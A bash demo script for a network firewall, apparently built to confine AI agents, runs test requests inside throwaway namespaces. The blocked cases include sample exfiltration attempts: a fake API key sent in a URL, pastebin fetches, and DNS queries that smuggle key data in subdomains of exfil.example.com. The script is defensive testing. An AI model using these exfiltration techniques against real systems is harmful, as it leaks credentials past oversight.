#!/usr/bin/env bash
# demo.sh - pipelock-fw's first run, without touching this machine's firewall.
#
#   sudo make demo          (or: sudo sh scripts/demo.sh build/pipelock-fw)
#
# Builds a throwaway world of two network namespaces joined by a veth pair:
#
#   "agent" namespace                           "internet" namespace
#   uid 1000 runs curl (the agent)              HTTP :80, HTTPS :443 (a
#   pipelock-fw firewall + run (the engine)     throwaway CA), dnsmasq :53 on
#   198.18.0.1          ===== veth =====        198.18.0.2 (the resolver) and
#                                               198.18.0.3 (not a resolver)
#
# dnsmasq answers example.com, docs.python.org and pastebin.com with the
# demo's web server.  The firewall is applied inside the agent namespace and
# the engine runs on built-in defaults (no config file: the agent uid is
# given on the command line), then the agent's requests show what is allowed
# and what is blocked, each with the audit lines it produced.  Everything
# (namespaces, processes, files) is removed at the end, also on Ctrl-C.
# Addresses come from 198.18.0.0/15, the benchmarking range: nothing leaves
# the box.  Needs: ip, setpriv, python3, openssl, dnsmasq, curl.

# `sh scripts/demo.sh` (the Makefile) lands here in sh: continue in bash
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
set -eu

PLFW=${1:-build/pipelock-fw}
case $PLFW in /*) ;; *) PLFW=$PWD/$PLFW ;; esac
AGENT_UID=${DEMO_AGENT_UID:-1000}
A_NS=plfw-demo-a-$$		# the agent's namespace
I_NS=plfw-demo-i-$$		# the "internet"
A_IF=plfwda$$
I_IF=plfwdi$$
V4_AGENT=198.18.0.1
V4_NET=198.18.0.2
V4_OTHER=198.18.0.3
TPROXY_PORT=8890
PY=/usr/bin/python3
TMP=""
PIDS=""
ENGINE_PID=""
AUDIT=""
FAKE_KEY="sk-ant-api03-demoFAKEdemoFAKEdemoFAKEdemoFAKE1234"

if [ -t 1 ]; then
	B=$(printf '\033[1m') G=$(printf '\033[32m') R=$(printf '\033[31m')
	D=$(printf '\033[2m') N=$(printf '\033[0m')
else
	B="" G="" R="" D="" N=""
fi
say() { printf '%s\n' "$*"; }
head1() { printf '\n%s==> %s%s\n' "$B" "$*" "$N"; }
die() { printf 'demo: %s\n' "$*" >&2; exit 1; }

cleanup() {
	local rc=$? p ns
	trap - EXIT
	trap '' INT TERM
	set +e
	{
		for p in $ENGINE_PID $PIDS; do kill -TERM "$p"; done
		for ns in "$A_NS" "$I_NS"; do
			ip netns pids "$ns" 2>/dev/null | xargs -r kill -KILL
		done
		for p in $ENGINE_PID $PIDS; do wait "$p"; done
		for ns in "$A_NS" "$I_NS"; do ip netns del "$ns"; done
	} 2>/dev/null
	rm -rf "/etc/netns/$A_NS"
	rmdir /etc/netns 2>/dev/null
	[ -n "$TMP" ] && rm -rf "$TMP"
	say ""
	say "demo: cleaned up (namespaces $A_NS $I_NS removed; the host's firewall was never touched)"
	exit "$rc"
}

# wait_for SECONDS CMD... - poll CMD every 50 ms.
wait_for() {
	local end=$(($(date +%s) + $1))
	shift
	until "$@"; do
		[ "$(date +%s)" -lt "$end" ] || return 1
		sleep 0.05
	done
}
in_agent_ns() { ip netns exec "$A_NS" "$@"; }
in_net() { ip netns exec "$I_NS" "$@"; }
as_agent() { ip netns exec "$A_NS" setpriv --reuid="$AGENT_UID" --regid="$AGENT_UID" --clear-groups -- "$@"; }
bg() {
	local out=$1
	shift
	"$@" >"$out" 2>&1 </dev/null &
	PIDS="$PIDS $!"
}

[ "$(id -u)" -eq 0 ] || die "run as root: sudo make demo"
[ -x "$PLFW" ] || die "$PLFW: not built (run make first)"
for c in ip setpriv openssl dnsmasq curl ss "$PY"; do
	command -v "$c" >/dev/null 2>&1 || die "missing $c (scripts/deps.sh installs it)"
done

trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM
TMP=$(mktemp -d /tmp/pipelock-fw-demo.XXXXXX)
chmod 0755 "$TMP"
AUDIT=$TMP/audit.log

head1 "Setting up a throwaway world (namespaces $A_NS and $I_NS)"
# a throwaway CA and a certificate for the demo's sites
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 1 \
	-keyout "$TMP/ca.key" -out "$TMP/ca.pem" -subj "/CN=pipelock-fw demo CA" \
	-addext "basicConstraints=critical,CA:TRUE" -addext "keyUsage=critical,keyCertSign" 2>/dev/null
openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout "$TMP/site.key" \
	-out "$TMP/site.csr" -subj "/CN=example.com" 2>/dev/null
printf 'subjectAltName=DNS:example.com,DNS:docs.python.org,DNS:pastebin.com\nextendedKeyUsage=serverAuth\n' >"$TMP/site.ext"
openssl x509 -req -days 1 -in "$TMP/site.csr" -CA "$TMP/ca.pem" -CAkey "$TMP/ca.key" \
	-CAcreateserial -extfile "$TMP/site.ext" -out "$TMP/site.pem" 2>/dev/null
chmod 0644 "$TMP/ca.pem"

ip netns add "$A_NS"
ip netns add "$I_NS"
ip -n "$A_NS" link add "$A_IF" type veth peer name "$I_IF" netns "$I_NS"
ip -n "$A_NS" link set lo up
ip -n "$I_NS" link set lo up
ip -n "$A_NS" addr add "$V4_AGENT/24" dev "$A_IF"
ip -n "$I_NS" addr add "$V4_NET/24" dev "$I_IF"
ip -n "$I_NS" addr add "$V4_OTHER/24" dev "$I_IF"
ip -n "$A_NS" link set "$A_IF" up
ip -n "$I_NS" link set "$I_IF" up
ip -n "$A_NS" route add default via "$V4_NET"
mkdir -p "/etc/netns/$A_NS"
printf '127.0.0.1 localhost\n::1 localhost\n' >"/etc/netns/$A_NS/hosts"
printf 'nameserver %s\noptions timeout:1 attempts:1\n' "$V4_NET" >"/etc/netns/$A_NS/resolv.conf"
chmod 0644 "/etc/netns/$A_NS/hosts" "/etc/netns/$A_NS/resolv.conf"
say "namespaces: $A_NS $I_NS"

# the "internet": one web server for every site, HTTP and HTTPS
cat >"$TMP/web.py" <<'PYEOF'
import http.server, socketserver, ssl, sys, threading
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = ("hello from %s%s (the demo internet)\n" % (self.headers.get("Host", "?"), self.path)).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        sys.stderr.write("web: %s %s\n" % (self.headers.get("Host", "?"), self.requestline))
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
addr, cert, key = sys.argv[1], sys.argv[2], sys.argv[3]
plain = S((addr, 80), H)
tls = S((addr, 443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
threading.Thread(target=plain.serve_forever, daemon=True).start()
tls.serve_forever()
PYEOF
bg "$TMP/web.log" ip netns exec "$I_NS" "$PY" -u "$TMP/web.py" "$V4_NET" "$TMP/site.pem" "$TMP/site.key"
bg "$TMP/dnsmasq.err" ip netns exec "$I_NS" dnsmasq --keep-in-foreground --no-resolv --no-hosts \
	--bind-interfaces --listen-address="$V4_NET" --listen-address="$V4_OTHER" --port=53 \
	--user=root --group=root --pid-file="$TMP/dnsmasq.pid" \
	--address=/example.com/"$V4_NET" --address=/docs.python.org/"$V4_NET" \
	--address=/pastebin.com/"$V4_NET" --address=/#/ \
	--log-queries --log-facility="$TMP/dns.log"
wait_for 10 sh -c "ip netns exec $I_NS ss -Hltn 'sport = :443' | grep -q . &&
	ip netns exec $I_NS ss -Hlun 'sport = :53' | grep -q ." || die "the demo servers did not start"
say "internet: web server on $V4_NET:80/443, DNS on $V4_NET:53 (the resolver) and $V4_OTHER:53"

head1 "Applying the firewall in the agent namespace (agent: uid $AGENT_UID)"
say "\$ pipelock-fw firewall apply --agent-user $AGENT_UID"
out=$(in_agent_ns "$PLFW" firewall apply --agent-user "$AGENT_UID" 2>&1) || die "firewall apply failed: $out"
printf '%s\n' "$out" | sed 's/^/  /'
head1 "Starting the engine on built-in defaults"
say "\$ pipelock-fw run    (audit lines on stdout)"
: >"$AUDIT"
ip netns exec "$A_NS" "$PLFW" run >>"$AUDIT" 2>"$TMP/engine.err" </dev/null &
ENGINE_PID=$!
wait_for 10 sh -c "ip netns exec $A_NS ss -Hltn 'sport = :$TPROXY_PORT' | grep -q ." ||
	{ cat "$TMP/engine.err" >&2; die "the engine did not start"; }
say "engine running (pid $ENGINE_PID), listening on 127.0.0.1:$TPROXY_PORT"

# show_audit N - the audit lines written after line N (waits for one).
show_audit() {
	local from=$1
	wait_for 3 sh -c "[ \$(wc -l <'$AUDIT') -gt $from ]" || true
	sleep 0.2	# the close line of a relayed connection follows shortly
	# (rate-limit summaries of earlier lines are left out)
	tail -n +"$((from + 1))" "$AUDIT" | grep -v '"summary":' | sed "s/^/    ${D}audit: /; s/\$/${N}/" |
		grep . || say "    ${D}(no audit line: the firewall rejected it in the kernel, before any engine)${N}"
}

# try WHAT EXPECT CMD... - run CMD as the agent, print its outcome.
try() {
	local what=$1 expect=$2 out rc n verdict
	shift 2
	n=$(wc -l <"$AUDIT")
	printf '\n%s%s%s\n  $ %s\n' "$B" "$what" "$N" "$*"
	rc=0
	out=$(as_agent "$@" 2>&1) || rc=$?
	printf '%s\n' "$out" | head -n 3 | sed 's/^/  | /'
	if [ "$rc" -eq 0 ] && ! printf '%s' "$out" | grep -q '^403\|HTTP 403\|blocked by pipelock-fw\|refused'; then
		verdict=ALLOWED
	else
		verdict=BLOCKED
	fi
	if [ "$verdict" = "$expect" ]; then
		printf '  => %s%s%s\n' "$([ "$verdict" = ALLOWED ] && echo "$G" || echo "$R")" "$verdict" "$N"
	else
		printf '  => %s (expected %s)\n' "$verdict" "$expect"
		UNEXPECTED=$((UNEXPECTED + 1))
	fi
	show_audit "$n"
}
# a DNS query whose name carries data, sent straight to ADDR:53
cat >"$TMP/dns_exfil.py" <<'PYEOF'
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
name = ["c2stYW50LWFwaTAz", "exfil", "example", "com"]
q = bytes.fromhex("beef01000001000000000000")
q += b"".join(bytes([len(l)]) + l.encode() for l in name) + b"\x00\x00\x01\x00\x01"
try:
    s.sendto(q, (sys.argv[1], 53))
    s.recv(512)
    print("answered")
except OSError as e:
    print("refused:", e)
    sys.exit(1)
PYEOF
chmod 0644 "$TMP/dns_exfil.py"
UNEXPECTED=0
CURL=(curl -sS --max-time 5 --cacert "$TMP/ca.pem")

head1 "The agent's requests"
try "An allowed HTTPS site" ALLOWED "${CURL[@]}" https://example.com/
try "An allowed plain-HTTP page" ALLOWED "${CURL[@]}" http://docs.python.org/3/
try "A fake API key in a URL (plain HTTP: the engine reads the request)" BLOCKED \
	"${CURL[@]}" -w '%{http_code}\n' "http://example.com/?key=$FAKE_KEY"
try "A blocked domain (pastebin.com, on the default blocklist): the name lookup is refused" BLOCKED \
	"${CURL[@]}" https://pastebin.com/raw/abc123
try "The same with the address hard-coded (no DNS): the TLS SNI is refused" BLOCKED \
	"${CURL[@]}" --resolve "pastebin.com:443:$V4_NET" https://pastebin.com/raw/abc123
try "A direct UDP/DNS exfil attempt to a server that is not the resolver ($V4_OTHER)" BLOCKED \
	"$PY" "$TMP/dns_exfil.py" "$V4_OTHER"
try "A DNS exfil attempt through the resolver (an AWS key id in the name)" BLOCKED \
	getent hosts AKIAIOSFODNN7EXAMPLE.exfil.example.com
if grep -q 'exfil' "$TMP/dns.log" 2>/dev/null; then
	say "  ${R}the demo's DNS servers saw an exfil query${N}"
	UNEXPECTED=$((UNEXPECTED + 1))
else
	say "  (the demo's DNS servers never received either exfil query)"
fi

head1 "The same checks, as one command"
say "\$ pipelock-fw verify --as $AGENT_UID --target example.com:80 --udp-probe $V4_OTHER:53"
rc=0
out=$(in_agent_ns "$PLFW" verify --as "$AGENT_UID" --target example.com:80 \
	--udp-probe "$V4_OTHER:53" --timeout 3 2>&1) || rc=$?
printf '%s\n' "$out" | sed 's/^/  /'
[ "$rc" -eq 0 ] || UNEXPECTED=$((UNEXPECTED + 1))

head1 "Done"
if [ "$UNEXPECTED" -eq 0 ]; then
	say "demo: every request behaved as expected"
else
	say "demo: $UNEXPECTED unexpected result(s)"
	exit 1
fi
